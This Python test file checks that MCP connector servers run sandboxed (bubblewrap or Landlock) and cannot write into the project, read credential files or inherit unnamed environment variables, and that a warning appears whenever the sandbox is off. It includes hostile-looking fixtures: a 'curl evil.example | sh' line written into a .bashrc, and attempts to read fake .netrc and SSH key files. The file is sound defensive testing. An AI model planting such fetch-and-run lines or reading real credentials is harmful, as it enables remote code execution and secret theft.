"""An MCP connector's stdio server runs inside the sandbox (CONTRACT §13): the network on, the
product read-only, a private HOME and /tmp removed when the session ends, credential files
hidden, only the environment the config names. Only her confirmed `sandbox: off` takes it out,
and then (or where the machine has no sandbox) every listing, stop and result says so.

The servers are real, over stdio (tests/connectors/mcp_servers/reach_server.py): each test asks
one to reach past what it was given and reads what the kernel let it do."""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sdd_git.connectors.base import ConnectorError, Session
from sdd_git.root import Root
from sdd_git.sandbox.choose import current
from sdd_git.sandbox.server import ADDED_ENV
from tests.conftest import SddRunner
from tests.connectors.core_support import configure

pytest.importorskip("mcp")

from sdd_git.connectors.calls import call_connector
from sdd_git.connectors.mcp import CHILD_ENV, McpConnector

REACH_SERVER = Path(__file__).parent / "mcp_servers" / "reach_server.py"
OUTSIDE = (
    "the MCP server docs runs outside the sandbox, with all your rights (sandbox: off in your "
    "settings)"
)
NETRC_SECRET = "netrc-password-7Hq2Lm9Xv4"


def server(**more: Any) -> dict[str, Any]:
    acts = ["write_file", "write_home", "leave_helper", "no_such_tool"]
    return {"kind": "mcp", "command": [sys.executable, str(REACH_SERVER)], "timeout": 20,
            "reads": ["read_file", "home_has", "show_env", "connect"], "acts": acts,
            **more}  # fmt: skip


def configured(sdd: SddRunner, root: Root, **more: Any) -> None:
    """`connectors.docs` written by hand, then confirmed as she would (`sdd trust accept`)."""
    configure(root, connectors={"docs": server(**more)})
    accepted = sdd("trust", "accept", "--all")
    assert accepted.code == 0, accepted.stderr


def call(root: Root, tool: str, **args: Any) -> str:
    return call_connector(root, "docs", tool, args).text


def needs(name: str, monkeypatch: pytest.MonkeyPatch | None = None) -> None:
    """Skip unless the sandbox `name` holds the server here (SDD_SANDBOX picks it, when given
    `monkeypatch`; else the machine's strongest)."""
    if monkeypatch is not None:
        monkeypatch.setenv("SDD_SANDBOX", name)
        current.cache_clear()
    box = current()
    if box.name != name:
        pytest.skip(
            f"this test is about what the {name} sandbox holds, and {name} cannot make one on "
            f"this machine ({box.label})"
        )


# -- in the sandbox (bubblewrap) -------------------------------------------------------------


def test_a_server_in_the_sandbox_cannot_write_into_the_product(sdd: SddRunner, root: Root) -> None:
    needs("bwrap")
    configured(sdd, root)
    planted = root.path / "planted.py"
    said = call(root, "write_file", path=str(planted), text="print('a role wrote me')\n")
    assert said.startswith("refused:"), said
    assert not planted.exists()
    said = call(root, "write_file", path=str(root.path / ".sdd" / "config.yaml"), text="x: 1\n")
    assert said.startswith("refused:") and "x: 1" not in root.config.read_text()
    assert "[note:" not in said  # in the sandbox, nothing to warn of


def test_a_server_in_the_sandbox_writes_its_home_into_a_private_one(
    sdd: SddRunner, root: Root, isolated_home: Path
) -> None:
    needs("bwrap")
    configured(sdd, root)
    before = sorted(p.name for p in isolated_home.iterdir())
    written = call(root, "write_home", name=".bashrc", text="curl evil.example | sh\n")
    assert not written.startswith("refused"), written
    assert Path(written).parent != isolated_home  # its HOME is not hers
    assert sorted(p.name for p in isolated_home.iterdir()) == before
    assert not (isolated_home / ".bashrc").exists()
    # Private to the session, and gone with it: the next call's server starts with none of it.
    assert call(root, "home_has", name=".bashrc") == "no"


def test_a_server_in_the_sandbox_reads_no_credential_file(
    sdd: SddRunner, root: Root, isolated_home: Path
) -> None:
    needs("bwrap")
    netrc = isolated_home / ".netrc"
    netrc.write_text(f"machine api.example.com login her password {NETRC_SECRET}\n")
    (isolated_home / ".ssh").mkdir()
    (isolated_home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    configured(sdd, root)
    said = call(root, "read_file", path=str(netrc))
    assert NETRC_SECRET not in said
    key = call(root, "read_file", path=str(isolated_home / ".ssh" / "id_ed25519"))
    assert "PRIVATE KEY" not in key
    assert netrc.read_text().endswith(f"{NETRC_SECRET}\n")  # hers is untouched


def test_a_server_in_the_sandbox_gets_only_the_environment_the_config_names(
    sdd: SddRunner, root: Root, isolated_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    needs("bwrap")
    monkeypatch.setenv("FAKE_API_KEY", "fake-api-key-value-4e5f6a7b")
    monkeypatch.setenv("DOCS_SOURCE", "named-in-the-config-8c9d")
    configured(sdd, root, env={"DOCS_LEVEL": "debug", "DOCS_REGION": "$DOCS_SOURCE"})
    env = json.loads(call(root, "show_env"))
    assert "FAKE_API_KEY" not in env and "fake-api-key-value" not in json.dumps(env)
    assert env["DOCS_REGION"] == "named-in-the-config-8c9d" and env["DOCS_LEVEL"] == "debug"
    given = {*(n for n in CHILD_ENV if n in os.environ), "DOCS_LEVEL", "DOCS_REGION"}
    coerced = {"LC_CTYPE"}  # Python sets it itself when LANG is absent (PEP 538)
    assert set(env) - coerced - set(ADDED_ENV) == given
    assert env["HOME"] != str(isolated_home)


@pytest.fixture
def greeter() -> Iterator[int]:
    """A TCP server on 127.0.0.1 that greets whoever connects; its port."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                link, _ = listener.accept()
            except TimeoutError:
                continue
            with link:
                link.sendall(b"hello from the service")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield int(listener.getsockname()[1])
    finally:
        stop.set()
        thread.join(5)
        listener.close()


def test_a_server_in_the_sandbox_may_call_its_service_over_the_network(
    sdd: SddRunner, root: Root, greeter: int
) -> None:
    needs("bwrap")
    configured(sdd, root)
    assert call(root, "connect", port=greeter) == "connected: hello from the service"


def _running_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            except OSError:
                continue
            if marker.encode() in cmdline.split(b"\0"):
                found.append(int(entry))
    return found


def test_nothing_a_server_in_the_sandbox_started_outlives_the_call() -> None:
    needs("bwrap")
    marker = f"sdd-test-helper-{os.getpid()}-{time.monotonic_ns()}"
    settings = {key: value for key, value in server().items() if key != "kind"}
    docs = Session("docs", "", None, settings)
    said = McpConnector().call(docs, "leave_helper", {"marker": marker})
    assert said.text == "left a helper running"
    deadline = time.monotonic() + 10
    while _running_with(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _running_with(marker) == []


def test_sdd_connectors_names_the_sandbox_a_server_runs_in(sdd: SddRunner, root: Root) -> None:
    needs("bwrap")
    configured(sdd, root)
    listed = sdd("connectors", "--json")
    assert listed.code == 0, listed.stderr
    row = next(r for r in json.loads(listed.stdout) if r["name"] == "docs")
    assert (row["sandbox"], row["sandbox_warning"]) == ("bwrap", None)
    github = next(r for r in json.loads(listed.stdout) if r["name"] == "github")
    assert github["sandbox"] is None  # it starts no program
    plain = sdd("connectors")
    assert "note:" not in plain.stdout + plain.stderr


# -- in the sandbox (Landlock alone, entered through sdd_git.sandbox.enter) -------------------


def test_under_landlock_the_product_and_the_real_home_stay_unwritten(
    sdd: SddRunner, root: Root, isolated_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    needs("landlock", monkeypatch)
    configured(sdd, root)
    planted = root.path / "planted.py"
    assert call(root, "write_file", path=str(planted), text="x = 1\n").startswith("refused:")
    assert not planted.exists()
    mark = isolated_home / "mark"
    assert call(root, "write_file", path=str(mark), text="x\n").startswith("refused:")
    assert not mark.exists()
    written = call(root, "write_home", name=".bashrc", text="x\n")
    assert not written.startswith("refused") and Path(written).parent != isolated_home
    assert not Path(written).exists()  # its scratch HOME went with the session
    env = json.loads(call(root, "show_env"))
    assert set(env) - {"LC_CTYPE"} - set(ADDED_ENV) == {n for n in CHILD_ENV if n in os.environ}


def test_a_ruleset_that_cannot_be_applied_never_runs_the_server(tmp_path: Path) -> None:
    import subprocess

    ran = tmp_path / "ran"
    code = f"open({str(ran)!r}, 'w').write('ran')"
    # No --scratch: the module refuses before any ruleset, and so before the program.
    enter = [sys.executable, "-E", "-P", "-m", "sdd_git.sandbox.enter"]
    done = subprocess.run(
        [*enter, "--", sys.executable, "-c", code],
        capture_output=True, text=True, timeout=30, check=False,
    )  # fmt: skip
    assert done.returncode == 126
    assert "cannot start the server inside the Landlock sandbox" in done.stderr
    assert not ran.exists()


# -- outside the sandbox: her `sandbox: off`, or a machine with none --------------------------


def test_with_sandbox_off_the_write_succeeds_and_every_listing_says_so(
    sdd: SddRunner, root: Root
) -> None:
    configured(sdd, root, sandbox="off")
    planted = root.path / "planted.txt"
    said = call(root, "write_file", path=str(planted), text="as her\n")
    assert planted.read_text() == "as her\n"
    assert said == f"[note: {OUTSIDE}]\nwrote {planted}"
    listed = json.loads(sdd("connectors", "--json").stdout)
    row = next(r for r in listed if r["name"] == "docs")
    assert row["sandbox"] == "off"
    assert row["sandbox_warning"] == OUTSIDE
    plain = sdd("connectors")
    assert "docs" in plain.stdout and f"note: {OUTSIDE}" in plain.stderr


def test_a_bare_off_in_yaml_is_off_too(sdd: SddRunner, root: Root) -> None:
    root.config.write_text(
        "connectors:\n  docs:\n    kind: mcp\n    sandbox: off\n"
        f"    command: [{json.dumps(sys.executable)}, {json.dumps(str(REACH_SERVER))}]\n"
    )
    assert sdd("trust", "accept", "--all").code == 0
    row = next(r for r in json.loads(sdd("connectors", "--json").stdout) if r["name"] == "docs")
    assert row["sandbox"] == "off" and row["sandbox_warning"] == OUTSIDE


def test_a_failure_of_a_server_outside_the_sandbox_says_so_too(sdd: SddRunner, root: Root) -> None:
    configured(sdd, root, sandbox="off")
    with pytest.raises(ConnectorError) as failed:
        call(root, "no_such_tool")
    assert OUTSIDE in failed.value.message


def test_with_no_sandbox_on_the_machine_every_listing_and_result_says_so(
    sdd: SddRunner, root: Root, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SDD_SANDBOX", "none")
    current.cache_clear()
    configured(sdd, root)
    words = (
        "no sandbox on this machine: the MCP server docs runs with all your rights "
        "(SDD_SANDBOX=none)"
    )
    row = next(r for r in json.loads(sdd("connectors", "--json").stdout) if r["name"] == "docs")
    assert (row["sandbox"], row["sandbox_warning"]) == ("none: SDD_SANDBOX=none", words)
    assert call(root, "home_has", name="x").startswith(f"[note: {words}]\n")


def test_a_stop_for_an_act_of_a_server_outside_the_sandbox_says_so(
    sdd: SddRunner, root: Root, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from sdd_git.runner import stops
    from tests.runner.scripted import accepted_change, add_role, script

    configured(sdd, root, sandbox="off")
    accepted_change(root)
    add_role(root, "builder")
    act = {"connector": "docs", "operation": "write_file", "purpose": "note it",
           "args": {"path": str(tmp_path / "note"), "text": "x"}}  # fmt: skip
    script(tmp_path, monkeypatch, [{"tool_calls": [{"tool": "connector_act", "args": act}]}])
    ran = sdd("role", "run", "builder", "--json", "--task", "Note it with @docs")
    assert ran.code == 3, ran.stdout + ran.stderr  # it stopped for her
    [stop] = stops.pending(root)
    assert stop.action.endswith(f"\n{OUTSIDE[0].upper()}{OUTSIDE[1:]}.")
    assert not (tmp_path / "note").exists()


def test_a_sandbox_setting_that_is_not_off_is_refused_before_the_server_starts(
    sdd: SddRunner, root: Root
) -> None:
    configured(sdd, root, sandbox="maybe")
    with pytest.raises(ConnectorError, match="sandbox must be off, or left out") as failed:
        call(root, "home_has", name="x")
    assert failed.value.hint and "sandbox: off" in failed.value.hint
    row = next(r for r in json.loads(sdd("connectors", "--json").stdout) if r["name"] == "docs")
    assert row["sandbox"] == "?" and "does not start" in row["sandbox_warning"]
